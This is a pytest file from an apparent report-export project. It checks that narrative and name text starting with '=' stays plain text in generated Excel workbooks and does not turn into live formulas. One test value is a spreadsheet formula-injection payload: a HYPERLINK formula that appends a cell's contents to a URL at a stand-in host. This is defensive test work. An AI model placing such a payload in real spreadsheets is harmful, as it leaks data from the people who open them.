"""Text people write (narratives, names, titles) stays text in the workbook: openpyxl turns a
string starting with "=" into a live formula, which Excel would run for every reader."""

from __future__ import annotations

from io import BytesIO

from openpyxl import load_workbook

from mekong.reports.files import report_file
from mekong.results.models import Narrative
from tests.results.report_fixtures import ReportWorld

HOSTILE = '=HYPERLINK("https://example.invalid/?"&A1,"Open")'


def test_text_starting_with_equals_is_not_a_formula(report_world: ReportWorld) -> None:
    rw = report_world.results
    Narrative.objects.filter(framework=rw.project_framework, period=rw.p2024, language="en").update(
        text=HOSTILE
    )
    rw.trained.name = "=1+1"
    rw.trained.save()
    file = report_file(
        framework=rw.project_framework, period=rw.p2024, language="en", file_format="xlsx"
    )
    book = load_workbook(BytesIO(file.content))
    formulas = [
        (sheet.title, cell.coordinate, cell.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []
    texts = [
        cell.value
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]
    assert any(HOSTILE in text for text in texts)
    assert "=1+1" in texts
